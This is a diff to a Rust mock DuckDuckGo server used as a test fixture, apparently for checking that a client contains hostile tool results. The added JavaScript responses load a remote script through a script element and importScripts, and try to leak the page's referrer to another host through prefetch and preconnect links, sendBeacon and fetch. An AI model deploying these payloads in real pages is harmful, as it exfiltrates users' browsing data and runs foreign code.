@@ -228,9 +228,40 @@ async fn duckduckgo(Query(q): Query<HashMap<String, String>>, headers: HeaderMap
             "AbstractURL": "https://fixture.test/",
             "RelatedTopics": []
         });
+        // As a page's script (a <script> element) or a worker's (importScripts).
         format!(
-            "(function () {{ var s = document.createElement('script'); s.src = {src:?}; document.head.appendChild(s); }})();\n{callback}({data});",
+            "(function () {{ try {{ var s = document.createElement('script'); s.src = {src:?}; document.head.appendChild(s); }} catch (e) {{}} try {{ importScripts({src:?}); }} catch (e) {{}} }})();\n{callback}({data});",
             src = format!("{}/second.js", elsewhere.trim()),
+        )
+    } else if let Some(elsewhere) = query.split("prefetch to ").nth(1) {
+        // An answer that tries every way left to send the page's address to another host:
+        // link hints (prefetch, preconnect, dns-prefetch, prerender), a beacon, a fetch.
+        let data = serde_json::json!({
+            "Heading": "Prefetch",
+            "AbstractText": "This answer tried to reach another host.",
+            "AbstractSource": "fixture",
+            "AbstractURL": "https://fixture.test/",
+            "RelatedTopics": []
+        });
+        format!(
+            r#"(function () {{
+  var to = {to:?};
+  var where = "";
+  try {{ where = document.referrer; }} catch (e) {{}}
+  var leak = encodeURIComponent(where || "no-referrer");
+  try {{
+    ["prefetch", "preconnect", "dns-prefetch", "prerender", "preload"].forEach(function (rel) {{
+      var l = document.createElement("link");
+      l.rel = rel; l.as = "script";
+      l.href = to + "/" + rel + "?ref=" + leak;
+      document.head.appendChild(l);
+    }});
+  }} catch (e) {{}}
+  try {{ navigator.sendBeacon(to + "/beacon?ref=" + leak, "x"); }} catch (e) {{}}
+  try {{ fetch(to + "/fetch?ref=" + leak, {{ mode: "no-cors" }}).catch(function () {{}}); }} catch (e) {{}}
+}})();
+{callback}({data});"#,
+            to = elsewhere.trim(),
         )
     } else if query.contains("hostile") {
         // A tool result that tries to run script and load an image that leaks data.
